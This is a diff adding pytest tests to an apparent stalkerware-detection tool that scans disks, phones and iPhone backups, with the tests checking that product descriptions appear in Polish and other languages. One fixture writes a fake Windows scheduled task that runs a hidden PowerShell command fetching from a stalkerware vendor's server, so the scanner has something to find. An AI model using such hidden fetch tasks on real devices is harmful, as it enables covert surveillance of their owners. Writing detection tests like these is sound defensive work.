@@ -340,3 +340,148 @@ def test_checkup_lang_pl_prints_the_scan_in_polish_and_refuses_unknown_languages
     assert "What a scan cannot see" not in out
     assert main(["--lang", "zz"]) == 2
     assert "unknown language" in capsys.readouterr().err
+
+
+# -- What a known product is: the built-in set's descriptions are catalogue messages -----------
+
+def _builtin_families():
+    from device_checkup.signatures.loader import shared_set
+    return [f for f in shared_set().families if not f.user_file]
+
+
+@pytest.mark.parametrize("code", ["pl", "xx", "yy"])
+def test_every_built_in_product_description_is_translated(language, code):
+    """Every family the built-in set ships (the compiled set the app reads: curated, Echap,
+    LOLRMM…) has its description in the catalogue of each language, and so has a phone app's
+    shorter phone form."""
+    from device_checkup.checks import texts
+    families = _builtin_families()
+    assert len(families) > 500 and {f.file.split()[-1] for f in families} >= {"curated.yaml", "echap.yaml", "lolrmm.yaml"}
+    language(code)
+    untranslated = sorted({f.description for f in families if texts.description(f) == f.description} |
+                          {f.description for f in families if texts.ON_A_LAPTOP in f.description and
+                           texts.description(f, phone=True) == f.description.split(texts.ON_A_LAPTOP)[0]})
+    assert not untranslated, untranslated
+    if code != "pl":
+        assert all(texts.description(f).startswith("⟦") for f in families)
+
+
+def _windows_disk(root: Path) -> Path:
+    """A Windows disk with signs of two built-in families: SpyAgent's install folder
+    (curated.yaml) and a scheduled task that fetches from TheTruthSpy's server (echap.yaml)."""
+    (root / "Program Files (x86)" / "sysconfig").mkdir(parents=True)
+    (root / "Program Files (x86)" / "sysconfig" / "sysdiag.exe").write_bytes(b"MZ")
+    tasks = root / "Windows" / "System32" / "Tasks"
+    tasks.mkdir(parents=True)
+    (tasks / "Updater").write_text(
+        '<?xml version="1.0"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
+        "<Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -c iwr https://thetruthspy.com/u"
+        "</Arguments></Exec></Actions></Task>\n", "utf-8")
+    return root
+
+
+@pytest.mark.parametrize("code", ["pl", "xx"])
+def test_a_found_product_is_described_in_the_chosen_language_on_the_command_line(tmp_path, capsys, language, code):
+    """`checkup scan --lang` on a disk with two built-in families: the text and the JSON say
+    what each product is in that language, never in English."""
+    import json
+    from device_checkup.app.cli import main
+    from device_checkup.checks import texts
+    language("en")
+    disk = _windows_disk(tmp_path / "disk")
+    families = {f.id: f for f in _builtin_families() if f.id in ("spyagent", "echap.thetruthspy")}
+    assert families["spyagent"].file.endswith("curated.yaml") and families["echap.thetruthspy"].file.endswith("echap.yaml")
+    argv = ["scan", "--root", str(disk), "--platform", "windows", "--lang", code]
+    assert main(argv) == 0
+    out = " ".join(capsys.readouterr().out.split())
+    assert main(argv + ["--json"]) == 0
+    data = json.loads(capsys.readouterr().out)
+    what = {f["family"]: f["explanation"]["what"] for f in data["findings"] if f.get("family")}
+    assert set(what) >= set(families)
+    language(code)
+    for fid, fam in families.items():
+        shown = texts.description(fam)
+        assert shown != fam.description
+        assert fam.description not in out and shown in out
+        assert what[fid] == shown
+    if code == "pl":
+        assert what["spyagent"].startswith("Program sprzedawany do potajemnego obserwowania komputera innej osoby.")
+        assert what["echap.thetruthspy"].startswith("Aplikacja na telefon sprzedawana do potajemnego obserwowania")
+        assert "Na laptopie" in what["echap.thetruthspy"]
+    else:
+        assert all(w.startswith("⟦") and w.endswith("⟧") for w in what.values())
+
+
+def test_a_description_no_catalogue_holds_is_shown_as_written(tmp_path, capsys, language):
+    """A signature file the person adds speaks its own words: its description is shown as
+    written, in any language (docs/signatures.md)."""
+    from device_checkup.app.cli import main
+    language("en")
+    disk = tmp_path / "disk"
+    (disk / "opt" / "acme-watch").mkdir(parents=True)
+    sig = tmp_path / "mine.yaml"
+    sig.write_text("schema: 1\nfamilies:\n  - id: acme-watch\n    name: AcmeWatch\n    tier: stalkerware\n"
+                   "    description: Made up for this test, by the person who added the file.\n"
+                   "    sources: [https://example.org/acme]\n    indicators:\n      file_paths: [/opt/acme-watch]\n",
+                   "utf-8")
+    assert main(["scan", "--root", str(disk), "--platform", "linux", "--signatures", str(sig), "--lang", "pl"]) == 0
+    out = " ".join(capsys.readouterr().out.split())
+    assert "Made up for this test, by the person who added the file." in out
+    assert "Co to jest:" in out
+
+
+def test_the_app_the_report_and_a_phone_describe_products_in_polish(qtbot, language):
+    """The same Polish words on the app's card, in the saved report and for a phone app (whose
+    description leaves out what a laptop can show)."""
+    from device_checkup.app.gui.window import MainWindow
+    from device_checkup.app.report import build_html
+    from device_checkup.app.session import Session
+    from device_checkup.checks import texts
+    from device_checkup.checks.phone.adb import Phone, Recorded
+    from device_checkup.checks.phone.scan import scan_android
+    from device_checkup.signatures.loader import shared_set
+    from tests.gui_fixtures import FakeDialogs, make_scan, signature_set, spy_sources
+    from tests.test_android import stalkerware_phone
+    spyagent = signature_set().family("spyagent")
+    language("pl")
+    polish = texts.description(spyagent)
+    assert polish.startswith("Program sprzedawany do potajemnego obserwowania komputera innej osoby.")
+    w = MainWindow(scan=make_scan(spy_sources()), dialogs=FakeDialogs(), quit=lambda: None, hard_exit=lambda code: None)
+    qtbot.addWidget(w)
+    w.welcome.start_button.click()
+    qtbot.waitUntil(lambda: w.current_page() is w.results, timeout=15000)
+    card = next(c for c in w.results.cards if c.finding.family == "spyagent")
+    card.fold.set_open(True)
+    shown = [l.text() for l in card.findChildren(type(w.results.title_label)) if l.isVisibleTo(card)]
+    assert any(polish in " ".join(t.split()) for t in shown), shown
+    page = build_html(w.result, Session())
+    assert polish in " ".join(page.split()) and spyagent.description not in page
+    phone = scan_android(Phone(Recorded(stalkerware_phone())), shared_set())
+    spy = next(f for f in phone.findings if f.family == "echap.thetruthspy")
+    assert spy.what.startswith("Aplikacja na telefon sprzedawana do potajemnego obserwowania")
+    assert "laptop" not in spy.what and "On a laptop" not in spy.what
+
+
+def test_an_iphone_backup_finding_describes_the_app_in_polish(tmp_path, language):
+    """MVT's real iPhone backup with FindMyKids (Echap) added: the finding says what the app is in
+    Polish, in its phone form."""
+    import gzip
+    import plistlib
+    import shutil
+    from device_checkup.checks.phone.ios_backup import scan_backup
+    from device_checkup.signatures.loader import shared_set
+    from tests.test_ios_backup import DATA
+    folder = tmp_path / "backup"
+    folder.mkdir()
+    info = plistlib.loads(Path(DATA, "Info.plist").read_bytes())
+    info["Installed Applications"].append("com.wheremychildren.ios")
+    (folder / "Info.plist").write_bytes(plistlib.dumps(info))
+    with gzip.open(Path(DATA, "Manifest.db.gz")) as src, open(folder / "Manifest.db", "wb") as dst:
+        shutil.copyfileobj(src, dst)
+    language("pl")
+    [finding] = scan_backup(str(folder), shared_set()).findings
+    assert finding.family.startswith("echap.")
+    # FindMyKids is in Echap's stalkerware list too, and that tier is the one reported.
+    assert finding.tier == "stalkerware"
+    assert finding.what == ("Aplikacja na telefon sprzedawana do potajemnego obserwowania innej osoby: może przekazywać "
+                            "jej wiadomości, połączenia, zdjęcia i lokalizację temu, kto ją zainstalował.")
